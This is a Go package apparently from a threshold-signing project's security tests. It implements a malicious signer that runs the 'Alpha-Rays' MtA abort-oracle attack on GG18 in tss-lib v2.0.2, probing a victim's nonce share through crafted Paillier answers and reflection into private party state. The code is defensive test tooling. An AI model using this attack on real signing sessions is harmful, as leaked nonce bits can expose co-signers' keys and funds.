// Package adversary is attack code for tkeyless's security tests: it plays a
// compromised signer that deviates from GG18 in ways no configuration of a
// stock tss-lib party can be made to. It reaches into tss-lib v2.0.2's
// unexported party state by reflection, so it is tied to that layout; every
// accessor fails with a clear error if the layout changes.
//
// Only tests and the adversary build of the signer (go build -tags
// adversary) use it; release binaries never link it.
package adversary

import (
	"crypto/rand"
	"errors"
	"fmt"
	"math/big"
	"reflect"
	"unsafe"

	"github.com/bnb-chain/tss-lib/v2/crypto/mta"
	"github.com/bnb-chain/tss-lib/v2/ecdsa/keygen"
	"github.com/bnb-chain/tss-lib/v2/ecdsa/signing"
	tsslib "github.com/bnb-chain/tss-lib/v2/tss"
)

// MtAOracle is a malicious Bob for GG18's MtA in signing round 2 (the
// "Alpha-Rays" abort oracle): instead of an honest β′ in [0, q⁵) it answers
// the victim's k with β′ = Offset − T·γ, keeping its own β = −β′ mod q so
// that the MtA is still correct whenever the victim's plaintext does not
// wrap. With Offset = 0 the victim's α′ = γ(k − T) wraps modulo N exactly
// when k < T, so against stock tss-lib the session signs if and only if
// the victim's nonce share k ≥ T. With Offset = q⁴ the answer sits at the
// lower bound of tkeyless's range check instead.
type MtAOracle struct {
	// Attacker names the member playing Bob; only its messages change
	// (empty: every message handed to Tamper is the attacker's).
	Attacker string
	// Victim names the Alice whose nonce share is probed; empty probes
	// every other member.
	Victim string
	// Threshold returns T for one session (called once per session, at
	// the attacker's round 2).
	Threshold func() *big.Int
	// Offset is added to β′ (nil: zero).
	Offset *big.Int
}

// Answer is the malicious β′ = Offset − T·γ for the attacker's MtA answer
// to victim, for an engine that lets its Bob choose β′ and computes the
// answer, its proof and its own share β = −β′ from it (tkeyless's signing
// engine: tss.mtaBetaHook). It returns nil (answer honestly) for any other
// pair.
func (o *MtAOracle) Answer(attacker, victim string, gamma *big.Int) *big.Int {
	if (o.Attacker != "" && attacker != o.Attacker) || (o.Victim != "" && victim != o.Victim) {
		return nil
	}
	betaPrm := new(big.Int).Mul(o.Threshold(), gamma)
	betaPrm.Neg(betaPrm)
	if o.Offset != nil {
		betaPrm.Add(betaPrm, o.Offset)
	}
	return betaPrm
}

// Tamper rewrites the attacker's round-2 message to the victim; every other
// message passes unchanged. party is the attacker's *signing.LocalParty.
// On any failure it returns msg unchanged and the error.
func (o *MtAOracle) Tamper(party any, msg tsslib.Message) (tsslib.Message, error) {
	pm, ok := msg.(tsslib.ParsedMessage)
	if !ok {
		return msg, nil
	}
	r2, ok := pm.Content().(*signing.SignRound2Message)
	if !ok || msg.GetFrom() == nil || (o.Attacker != "" && msg.GetFrom().Id != o.Attacker) {
		return msg, nil
	}
	to := msg.GetTo()
	if len(to) != 1 || (o.Victim != "" && to[0].Id != o.Victim) {
		return msg, nil
	}
	lp, ok := party.(*signing.LocalParty)
	if !ok {
		return msg, fmt.Errorf("adversary: party is %T, not a tss-lib signing party", party)
	}
	st, err := stateOf(lp)
	if err != nil {
		return msg, err
	}
	i, j := msg.GetFrom().Index, to[0].Index
	r1, ok := st.round1[j].(tsslib.ParsedMessage)
	if !ok || r1 == nil {
		return msg, errors.New("adversary: no round-1 message from the victim")
	}
	cA := r1.Content().(*signing.SignRound1Message1).UnmarshalC()
	pkA := st.keys.PaillierPKs[j]
	ec := st.params.EC()
	q := ec.Params().N

	// β′ = Offset − T·γ, possibly negative: Bob's proof takes it as is.
	t := o.Threshold()
	betaPrm := new(big.Int).Mul(t, st.gamma)
	betaPrm.Neg(betaPrm)
	if o.Offset != nil {
		betaPrm.Add(betaPrm, o.Offset)
	}
	plain := new(big.Int).Mod(betaPrm, pkA.N) // Enc(β′) as Enc(β′ mod N)
	cBeta, rnd, err := pkA.EncryptAndReturnRandomness(rand.Reader, plain)
	if err != nil {
		return msg, fmt.Errorf("adversary: encrypt β′: %w", err)
	}
	cB, err := pkA.HomoMult(st.gamma, cA)
	if err != nil {
		return msg, err
	}
	if cB, err = pkA.HomoAdd(cB, cBeta); err != nil {
		return msg, err
	}
	session := append(append([]byte{}, st.ssid...), new(big.Int).SetUint64(uint64(i)).Bytes()...)
	pf, err := mta.ProveBob(session, ec, pkA, st.keys.NTildej[j], st.keys.H1j[j], st.keys.H2j[j], cA, cB, st.gamma, betaPrm, rnd, rand.Reader)
	if err != nil {
		return msg, fmt.Errorf("adversary: prove Bob: %w", err)
	}
	// Keep Bob's own share consistent with the β′ it encrypted.
	beta := new(big.Int).Neg(betaPrm)
	st.setBeta(j, beta.Mod(beta, q))

	pfBytes := pf.Bytes()
	content := &signing.SignRound2Message{C1: cB.Bytes(), C2: r2.GetC2(), ProofBob: pfBytes[:], ProofBobWc: r2.GetProofBobWc()}
	meta := tsslib.MessageRouting{From: msg.GetFrom(), To: to, IsBroadcast: false}
	return tsslib.NewMessage(meta, content, tsslib.NewMessageWrapper(meta, content)), nil
}

// NonceShare returns a signing party's nonce share k (set in round 1), for
// a test to compare the oracle's answers with the truth. party is a
// *signing.LocalParty.
func NonceShare(party any) (*big.Int, error) {
	lp, ok := party.(*signing.LocalParty)
	if !ok {
		return nil, fmt.Errorf("adversary: party is %T, not a tss-lib signing party", party)
	}
	temp, err := field(reflect.ValueOf(lp).Elem(), "temp")
	if err != nil {
		return nil, err
	}
	k, err := field(temp, "k")
	if err != nil {
		return nil, err
	}
	v, _ := k.Interface().(*big.Int)
	if v == nil {
		return nil, errors.New("adversary: nonce share not set yet (before round 1)")
	}
	return new(big.Int).Set(v), nil
}

// partyState is what the attack reads and writes of a tss-lib signing
// party's private state.
type partyState struct {
	gamma  *big.Int
	ssid   []byte
	round1 []any
	keys   keygen.LocalPartySaveData
	params *tsslib.Parameters
	betas  reflect.Value
}

func (s *partyState) setBeta(j int, v *big.Int) { s.betas.Index(j).Set(reflect.ValueOf(v)) }

func stateOf(lp *signing.LocalParty) (*partyState, error) {
	self := reflect.ValueOf(lp).Elem()
	temp, err := field(self, "temp")
	if err != nil {
		return nil, err
	}
	st := &partyState{}
	for name, dst := range map[string]any{"gamma": &st.gamma, "ssid": &st.ssid} {
		f, err := field(temp, name)
		if err != nil {
			return nil, err
		}
		reflect.ValueOf(dst).Elem().Set(f)
	}
	r1, err := field(temp, "signRound1Message1s")
	if err != nil {
		return nil, err
	}
	for i := 0; i < r1.Len(); i++ {
		st.round1 = append(st.round1, r1.Index(i).Interface())
	}
	if st.betas, err = field(temp, "betas"); err != nil {
		return nil, err
	}
	keys, err := field(self, "keys")
	if err != nil {
		return nil, err
	}
	st.keys = keys.Interface().(keygen.LocalPartySaveData)
	params, err := field(self, "params")
	if err != nil {
		return nil, err
	}
	st.params = params.Interface().(*tsslib.Parameters)
	if st.gamma == nil || st.ssid == nil {
		return nil, errors.New("adversary: party has not run round 1")
	}
	return st, nil
}

// field returns a settable view of an unexported struct field.
func field(v reflect.Value, name string) (reflect.Value, error) {
	f := v.FieldByName(name)
	if !f.IsValid() {
		return reflect.Value{}, fmt.Errorf("adversary: tss-lib party has no field %q: its layout changed (this code knows v2.0.2)", name)
	}
	return reflect.NewAt(f.Type(), unsafe.Pointer(f.UnsafeAddr())).Elem(), nil
}
